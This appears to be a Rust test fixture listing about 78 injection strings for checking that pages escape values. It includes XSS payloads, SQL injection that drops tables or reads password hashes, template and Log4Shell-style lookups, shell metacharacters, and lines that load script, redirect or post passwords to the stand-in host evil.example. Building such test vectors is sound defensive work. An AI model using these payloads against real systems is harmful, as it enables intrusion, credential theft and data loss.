//! Values that have broken pages, queries and terminals.

use std::collections::BTreeSet;

/// Ways to run a script, to get out of where a value stands, to write another value, or to mislead a reader. The
/// scripts call `ran()`, which the test defines on every page.
const VECTORS: [&str; 78] = [
    // Elements that run a script without a click.
    "<script>ran()</script>",
    "<ScRiPt>ran()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,ran()></script>",
    "<<script>ran()//<</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<script/xss>ran()</script>",
    "<svg><script>ran()</script></svg>",
    "<svg onload=ran()>",
    "<svg/onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<img src=x onerror=ran()>",
    "<img src=x:x onerror\n=\nran()>",
    "<img src=`x` onerror=ran()>",
    "<img/src/onerror=ran()>",
    "<body onload=ran()>",
    "<body onpageshow=ran()>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>",
    "<iframe src=javascript:parent.ran()>",
    "<iframe srcdoc=\"<script>parent.ran()</script>\">",
    "<object data=javascript:ran()>",
    "<embed src=javascript:ran()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">",
    "<template><img src=x onerror=ran()></template>",
    "<style>@import'//evil.example/x.css';*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example/><input name=password>",
    "<p style=position:fixed;inset:0;background:red>",
    // Values that leave the place where a value stands.
    "\"><img src=x onerror=ran()>",
    "'><img src=x onerror=ran()>",
    "\" autofocus onfocus=ran() x=\"",
    "' autofocus onfocus=ran() x='",
    "\" onmouseover=ran() style=\"position:fixed;inset:0",
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</bdi></td></tr></table><script>ran()</script>",
    "--><script>ran()</script><!--",
    "]]><script>ran()</script>",
    "</script><script>ran()</script>",
    "';ran();//",
    "\";ran();//",
    "\\\";ran();//",
    "`${ran()}`",
    "javascript:ran()",
    "JaVaScRiPt&colon;ran()",
    "data:text/html,<script>ran()</script>",
    "vbscript:ran()",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "%3Cscript%3Eran()%3C/script%3E",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "＜script＞ran()＜/script＞",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    // Other languages: SQL, templates, shells, logs, spreadsheets.
    "'; DROP TABLE users; --",
    "' OR '1'='1' /*",
    "\\'; DELETE FROM users; #",
    "%' UNION SELECT user, authentication_string FROM mysql.user -- x",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{% include \"/etc/passwd\" %}",
    "${jndi:ldap://evil.example/x}",
    "$(ran) `ran` ; ran | ran & ran",
    "%s%n%x %d {} {0}",
    "=HYPERLINK(\"//evil.example\",\"x\")",
    "a\r\nSet-Cookie: taken=over\r\n\r\n<script>ran()</script>",
    "a\u{1b}[2J\u{1b}[31mran",
    // Text that misleads.
    "a\0b<script>ran()</script>",
    "\u{202E}nar<\u{2066}script\u{2069}>",
    "مرحبا<script>ran()</script>שלום",
    "Z\u{0336}\u{0327}\u{0489}\u{0300}\u{0301}\u{0302}a\u{0336}l\u{0489}g\u{0300}o",
    "👩‍💻🏴‍☠️𝕊𝕔𝕣𝕚𝕡𝕥\u{1F600}\u{FFFD}\u{FEFF}\u{200B}",
];

/// The vectors unchanged, `N` at a time, for pages that take several values.
pub(crate) fn vectors<const N: usize>() -> impl Iterator<Item = [&'static str; N]> {
    let groups = VECTORS.chunks_exact(N);
    assert!(groups.remainder().is_empty(), "each group is full");
    groups.map(|group| std::array::from_fn(|at| group[at]))
}

/// At least 500 different names of at most 255 characters: every vector in several surroundings.
pub(crate) fn names() -> Vec<String> {
    let surroundings = |vector: &str| {
        [
            vector.to_owned(),
            format!("Ada {vector} Lovelace"),
            format!("\"'><x>{vector}"),
            format!("{vector}\u{202E}olleh"),
            format!("\u{1F525}{vector}\u{FFFF}"),
            format!("{}{vector}", "字".repeat(255 - vector.chars().count())),
            vector.replace(' ', "\t\u{a0}\u{c}"),
        ]
    };
    let names: BTreeSet<_> = VECTORS.into_iter().flat_map(surroundings).collect();
    let names: Vec<_> = names.into_iter().map(|name| name.chars().take(255).collect()).collect();
    assert!(names.len() >= 500, "{} names", names.len());
    names
}
